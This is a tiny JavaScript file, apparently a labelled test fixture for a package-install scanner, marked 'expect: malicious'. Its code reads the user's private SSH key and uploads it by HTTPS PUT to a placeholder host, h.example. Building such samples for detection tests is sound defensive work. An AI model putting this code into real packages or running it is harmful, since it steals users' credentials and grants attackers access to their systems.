// when: install
// expect: malicious
const fs = require('fs'), os = require('os'), https = require('https');
fs.createReadStream(os.homedir() + '/.ssh/id_rsa').pipe(https.request({ hostname: 'h.example', method: 'PUT' }));
